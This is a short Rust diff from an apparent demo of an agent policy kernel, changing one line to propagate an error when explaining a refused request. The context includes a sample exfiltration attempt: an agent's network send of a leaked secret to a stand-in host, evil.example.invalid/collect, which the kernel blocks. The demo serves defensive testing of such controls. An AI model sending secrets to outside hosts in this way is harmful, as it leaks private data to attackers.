@@ -79,7 +79,7 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
         SyscallRequest::new("agent-1", Syscall::NetworkSend, "https://evil.example.invalid/collect").consuming(&leaked);
     let refused = kernel.decide(&exfiltrate)?;
     show("post a secret to an unknown host", &refused);
-    let why = kernel.explain(&exfiltrate, &refused);
+    let why = kernel.explain(&exfiltrate, &refused)?;
     println!("  why: {}", why.reason);
     if let Some(remedy) = why.remedy {
         println!("  what would allow it: {remedy}");
